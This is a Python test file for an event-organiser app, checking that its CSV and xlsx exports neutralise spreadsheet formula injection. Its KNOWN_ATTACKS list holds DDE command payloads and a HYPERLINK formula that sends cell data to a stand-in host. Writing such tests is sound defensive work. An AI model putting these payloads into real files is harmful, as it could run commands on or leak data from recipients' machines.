"""No export runs a name as a formula: every CSV and xlsx the app writes keeps text as text.

Hostile names go into a person, their organisation, the event, an agenda session and a plan
action; then each real export is written and read back the way a spreadsheet would see it.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from organiser.core.cells import csv_value, looks_like_formula, sheet_value
from organiser.domain.agenda import AgendaSession
from organiser.domain.desk import Registration
from organiser.domain.events import Event
from organiser.domain.people import Person
from organiser.domain.plans import Action, Plan
from organiser.services.agenda.reports import build_report, write_agenda
from organiser.services.desk.exports import export_attendance
from organiser.services.people.exports import COLUMN_KEYS, export_people
from organiser.services.plans.reports import export_plan
from organiser.store.db import Store

KNOWN_ATTACKS = [
    "=1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    '=1+HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "#N/A",
    "=",
]
hostile = st.one_of(
    st.sampled_from(KNOWN_ATTACKS),
    st.builds(
        lambda start, rest: start + rest,
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "#"]),
        st.text(min_size=0, max_size=30),
    ),
)


def _put_names(store: Store, name: str, org: str, title: str) -> str:
    """Write the hostile text straight into the rows (as an import or a sync could bring it)."""
    with store.writer() as uow:
        s = uow.session
        event = s.scalars(select(Event).where(Event.deleted_at.is_(None))).first()
        assert event is not None
        reg = s.scalars(select(Registration).where(Registration.event_id == event.id)).first()
        assert reg is not None
        person = s.get(Person, reg.person_id)
        assert person is not None and person.organisation is not None
        person.given_name, person.family_name = "x" + name, name  # given name may not be blank
        person.nickname = person.position = name
        person.organisation.name = org
        event.title = event.title_en = title
        session = s.scalars(select(AgendaSession).where(AgendaSession.event_id == event.id)).first()
        assert session is not None
        session.title = session.description = title
        action = s.scalars(select(Action)).first()
        assert action is not None
        action.title = name
        plan = s.get(Plan, action.plan_id)
        assert plan is not None
        plan.title = title
        uow.commit()
        return str(event.id)


def _xlsx_texts(path: Path) -> list[str]:
    """Every text cell of every sheet; fails on any formula or error cell."""
    with zipfile.ZipFile(path) as zf:
        for part in zf.namelist():
            if part.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", zf.read(part)), f"a formula in {part}"
    book = load_workbook(path)  # not read-only: data_type says what Excel would do
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _seen(text: str) -> str:
    """As a reader sees it: XML reads a carriage return back as a line break; edges trimmed."""
    return str(sheet_value(text)).replace("\r\n", "\n").replace("\r", "\n").strip()


def _shows(text: str, cells: list[str]) -> bool:
    return any(_seen(text) in _seen(cell) for cell in cells)


def _csv_values(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        values = [v for row in csv.reader(fh) for v in row]
    for v in values:
        assert not looks_like_formula(v), v
        assert v[:1] not in ("=", "+", "-", "@", "\t", "\r")
    return values


@settings(
    max_examples=12,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=hostile, org=hostile, title=hostile)
def test_every_export_writes_hostile_names_as_text(
    demo_store: Store, tmp_path: Path, name: str, org: str, title: str
) -> None:
    event_id = _put_names(demo_store, name, org, title)
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    with demo_store.writer() as uow:
        export_people(uow, out / "people.csv", COLUMN_KEYS)
        export_people(uow, out / "people.xlsx", COLUMN_KEYS)
        export_people(uow, out / "registrations.csv", COLUMN_KEYS, event_id=event_id)
        export_people(uow, out / "registrations.xlsx", COLUMN_KEYS, event_id=event_id)
        action = uow.session.scalars(select(Action)).first()
        assert action is not None
        export_plan(uow, action.plan_id, "xlsx", out / "plan.xlsx", today=dt.date(2007, 2, 1))
        write_agenda(build_report(uow, event_id, "th"), "xlsx", out / "agenda.xlsx")
        uow.commit()
    export_attendance(demo_store, event_id, out / "attendance.xlsx")

    for csv_name in ("people.csv", "registrations.csv"):
        values = _csv_values(out / csv_name)
        assert csv_value(name) in values  # the name is there, as text the user can read
        assert csv_value(org) in values
    people = _xlsx_texts(out / "people.xlsx")
    assert _shows(name, people) and _shows(org, people)
    assert _shows(name, _xlsx_texts(out / "registrations.xlsx"))
    assert _shows(name, _xlsx_texts(out / "plan.xlsx"))
    assert _shows(org, _xlsx_texts(out / "attendance.xlsx"))
    assert _shows(title, _xlsx_texts(out / "agenda.xlsx"))


@pytest.mark.parametrize("attack", KNOWN_ATTACKS[:4])
def test_the_reported_names_are_escaped_in_csv(attack: str) -> None:
    assert csv_value(attack) == "'" + attack
    assert csv_value(-2) == -2 and csv_value(3.5) == 3.5  # real numbers stay numbers
